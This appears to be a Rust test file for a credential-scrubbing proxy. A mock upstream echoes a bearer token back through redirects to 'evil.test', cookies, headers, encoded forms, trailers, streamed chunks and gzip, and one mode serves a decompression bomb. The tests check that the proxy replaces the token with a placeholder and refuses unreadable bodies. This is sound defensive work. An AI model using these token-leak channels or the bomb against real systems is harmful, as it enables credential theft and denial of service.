//! An upstream that gives back what it was sent, in every place an answer has: the guest sees its placeholder there, or
//! nothing, and never the token.

use std::convert::Infallible;
use std::io::Read as _;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use bytes::Bytes;
use flate2::Compression;
use flate2::read::GzEncoder;
use http::{HeaderMap, Response};
use http_body_util::combinators::BoxBody;
use http_body_util::{BodyExt as _, Full};
use hyper::body::Frame;
use hyper::ext::ReasonPhrase;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::spawn_local;

use crate::rig::{API, OAUTH_SECRET, Rig, TOKENS, get, with_rig};
use crate::upstream::{Behaviour, channel};

/// What the header `x-echo` asks the upstream for.
pub(crate) fn answer(mode: &str, sent: &HeaderMap) -> Response<BoxBody<Bytes, Infallible>> {
    let sent = sent.get("authorization");
    let sent = sent.map_or("", |value| value.to_str().unwrap()).to_owned();
    let response = Response::builder();
    match mode {
        "head" => {
            let phrase = ReasonPhrase::try_from(sent.clone()).unwrap();
            let response = response
                .status(302)
                .header("location", format!("https://evil.test/?t={sent}"))
                .header("set-cookie", format!("t={sent}; Path=/"))
                .header("set-cookie", "a=b")
                .header("www-authenticate", format!("Bearer realm=\"{sent}\""))
                .header("x-base64", STANDARD.encode(&sent))
                .header("x-twice", format!("{sent},{sent}"))
                .header(format!("x-{}", token(&sent)), "1")
                .extension(phrase);
            response.body(BoxBody::new(Full::default())).unwrap()
        }
        "error" => response
            .status(401)
            .header("content-type", "application/json; charset=utf-8")
            .body(Full::from(format!("{{\"message\":\"no such token: {sent}\"}}")).boxed())
            .unwrap(),
        "trailers" => response.body(in_trailers(&sent)).unwrap(),
        "drip" => response.body(dripping(all_forms(&sent))).unwrap(),
        "gzip" => response
            .header("content-encoding", "gzip")
            .header("content-type", "application/json")
            .body(Full::from(gzip(&format!("{{\"you sent\":\"{sent}\"}}"))).boxed())
            .unwrap(),
        "not gzip" => response
            .header("content-encoding", "gzip")
            .body(Full::from(sent).boxed())
            .unwrap(),
        "br" => response
            .header("content-encoding", "br")
            .body(Full::from(sent).boxed())
            .unwrap(),
        "bomb" => response
            .header("content-encoding", "gzip")
            .body(Full::from(gzip(&"0".repeat(2_000_000))).boxed())
            .unwrap(),
        other => panic!("no such echo: {other}"),
    }
}

fn gzip(text: &str) -> Vec<u8> {
    let mut coded = Vec::new();
    let mut encoder = GzEncoder::new(text.as_bytes(), Compression::default());
    encoder.read_to_end(&mut coded).unwrap();
    coded
}

/// The last word of an `Authorization`.
fn token(sent: &str) -> &str {
    sent.rsplit(' ').next().unwrap()
}

/// The token in many ways.
fn all_forms(sent: &str) -> String {
    let token = token(sent);
    let hex: String = token.bytes().map(|byte| format!("{byte:02x}")).collect();
    let pair = |user: &str| STANDARD.encode(format!("{user}:{token}"));
    let url_safe = URL_SAFE_NO_PAD.encode(token);
    format!(
        "{sent} {token}{token} {hex} {} {} {} {url_safe} end",
        pair("a"),
        pair("ab"),
        pair("abc")
    )
}

/// Three bytes at a time.
fn dripping(text: String) -> BoxBody<Bytes, Infallible> {
    let (sender, body) = channel();
    spawn_local(async move {
        for piece in text.as_bytes().chunks(3) {
            let frame = Frame::data(Bytes::copy_from_slice(piece));
            if sender.send(Ok(frame)).await.is_err() {
                return;
            }
        }
    });
    body
}

fn in_trailers(sent: &str) -> BoxBody<Bytes, Infallible> {
    let mut trailers = HeaderMap::new();
    trailers.insert("x-sent", sent.parse().unwrap());
    trailers.insert("grpc-status", "16".parse().unwrap());
    let (sender, body) = channel();
    spawn_local(async move {
        let _gone = sender
            .send(Ok(Frame::data(Bytes::from_static(b"body"))))
            .await;
        let _gone = sender.send(Ok(Frame::trailers(trailers))).await;
    });
    body
}

/// Fails when `seen` holds the token as it is or in a usual encoding.
fn assert_clean(seen: &str) {
    let hex: String = OAUTH_SECRET.bytes().map(|b| format!("{b:02x}")).collect();
    assert!(
        !seen.contains(OAUTH_SECRET) && !seen.to_lowercase().contains(&hex),
        "{seen}"
    );
    for before in 0..3 {
        let text = format!("{}{OAUTH_SECRET}", &"ab"[..before]);
        let encoded = STANDARD.encode(text);
        let core = &encoded[4..encoded.len() - 4];
        assert!(!seen.contains(core), "{core} in {seen}");
    }
}

/// Everything that the guest reads in answer to an authorised request over HTTP/1.1.
async fn over_http1(rig: &Rig, host: &str, (path, mode): (&str, &str)) -> String {
    let mut stream = rig.tls(host, &["http/1.1"]).await;
    let head = format!(
        "GET {path} HTTP/1.1\r\nhost: {host}\r\nauthorization: Bearer {}\r\nx-echo: {mode}\r\n\
         te: trailers\r\naccept-encoding: gzip, br, zstd\r\nconnection: close\r\n\r\n",
        rig.oauth
    );
    stream.write_all(head.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).await.unwrap();
    String::from_utf8(answer).unwrap()
}

/// The same over HTTP/2: head, body and trailers as text.
async fn over_http2(rig: &Rig, host: &str, (path, mode): (&str, &str)) -> String {
    let mut client = rig.http2(host).await;
    let bearer = format!("Bearer {}", rig.oauth);
    let request = get(
        &format!("https://{host}{path}"),
        &[
            ("authorization", &bearer),
            ("x-echo", mode),
            ("te", "trailers"),
        ],
    );
    let (head, body) = client.send_request(request).await.unwrap().into_parts();
    let body = body.collect().await.unwrap();
    let trailers = body.trailers().cloned();
    let body = String::from_utf8(body.to_bytes().to_vec()).unwrap();
    format!("{} {:?}\n{body}\n{trailers:?}", head.status, head.headers)
}

#[test]
fn a_host_that_echoes_a_header_gives_the_placeholder_back() {
    with_rig(Behaviour::default(), async |rig| {
        let bearer = format!("Bearer {}", rig.oauth);
        for seen in [
            over_http1(&rig, API, ("/", "head")).await,
            over_http2(&rig, API, ("/", "head")).await,
        ] {
            assert_clean(&seen);
            for field in ["location", "set-cookie", "www-authenticate", "x-twice"] {
                let line = seen.split(field).nth(1).expect("the field is there");
                assert!(line.contains(&bearer), "{field}: {seen}");
            }
            assert!(seen.contains("302") && seen.contains("a=b"), "{seen}");
        }
    });
}

#[test]
fn an_answer_that_repeats_a_refused_token_holds_the_placeholder() {
    with_rig(Behaviour::default(), async |rig| {
        let told = format!("{{\"message\":\"no such token: Bearer {}\"}}", rig.oauth);
        for seen in [
            over_http1(&rig, API, ("/v1", "error")).await,
            over_http2(&rig, API, ("/v1", "error")).await,
        ] {
            assert_clean(&seen);
            assert!(seen.contains(&told) && seen.contains("401"), "{seen}");
        }
    });
}

#[test]
fn trailers_hold_the_placeholder() {
    with_rig(Behaviour::default(), async |rig| {
        let seen = over_http2(&rig, API, ("/", "trailers")).await;
        assert_clean(&seen);
        let told = format!("Bearer {}", rig.oauth);
        assert!(
            seen.contains(&told) && seen.contains("grpc-status"),
            "{seen}"
        );
        assert_clean(&over_http1(&rig, API, ("/", "trailers")).await);
    });
}

#[test]
fn a_streamed_body_of_a_token_endpoint_holds_the_placeholder_however_it_is_cut() {
    with_rig(Behaviour::default(), async |rig| {
        let whole = format!("Bearer {0} {0}{0} ", rig.oauth);
        let seen = over_http2(&rig, TOKENS, ("/oauth/token", "drip")).await;
        assert_clean(&seen);
        assert!(seen.contains(&whole) && seen.contains(" end"), "{seen}");
        let seen = over_http1(&rig, TOKENS, ("/oauth/token", "drip")).await;
        // Chunks of three bytes have sizes in between.
        let body = seen.split("\r\n\r\n").nth(1).expect("there is a body");
        let joined: Vec<_> = body.split("\r\n").collect();
        let joined: String = joined
            .chunks(2)
            .filter_map(|chunk| chunk.get(1).copied())
            .collect();
        assert_clean(&joined);
        assert!(joined.contains(&whole), "{joined}");
        let asked = rig.upstream.seen.borrow();
        assert!(
            asked
                .iter()
                .all(|seen| seen.header("accept-encoding") == Some("identity"))
        );
    });
}

#[test]
fn a_compressed_body_of_a_token_endpoint_comes_without_its_coding_and_holds_the_placeholder() {
    with_rig(Behaviour::default(), async |rig| {
        let whole = format!("{{\"you sent\":\"Bearer {}\"}}", rig.oauth);
        for seen in [
            over_http1(&rig, TOKENS, ("/oauth/token", "gzip")).await,
            over_http2(&rig, TOKENS, ("/oauth/token", "gzip")).await,
        ] {
            assert_clean(&seen);
            assert!(seen.contains("200") && seen.contains(&whole), "{seen}");
            assert!(!seen.contains("content-encoding"), "{seen}");
        }
        assert_eq!(rig.last_audit()["status"], 200);
    });
}

#[test]
fn a_compressed_body_of_a_token_endpoint_that_cannot_be_read_is_refused() {
    with_rig(Behaviour::default(), async |rig| {
        for (mode, problem) in [
            ("not gzip", "its coding is broken"),
            ("br", "its coding is not known"),
            ("bomb", "larger than 1048576 bytes"),
        ] {
            let seen = over_http1(&rig, TOKENS, ("/oauth/token", mode)).await;
            assert_clean(&seen);
            assert!(seen.contains("502") && seen.contains(problem), "{seen}");
            assert_eq!(rig.last_audit()["reason"], "upstream-failed");
        }
    });
}

#[test]
fn a_token_that_another_request_was_given_is_taken_out_too() {
    with_rig(Behaviour::default(), async |rig| {
        over_http1(&rig, API, ("/", "error")).await;
        let mut client = rig.http1(API).await;
        let response = client.send_request(get("/remembered", &[])).await.unwrap();
        let seen = format!("{:?}", response.headers());
        assert_clean(&seen);
        assert!(seen.contains(rig.oauth.as_str()), "{seen}");
    });
}

#[test]
fn other_bodies_are_opaque_and_keep_their_length() {
    with_rig(Behaviour::default(), async |rig| {
        over_http1(&rig, API, ("/", "error")).await;
        let mut client = rig.http1(API).await;
        let response = client.send_request(get("/big", &[])).await.unwrap();
        assert_eq!(response.headers()["content-length"], "1048576");
        let body = response.into_body().collect().await.unwrap().to_bytes();
        assert_eq!(body.len(), 1 << 20);
    });
}
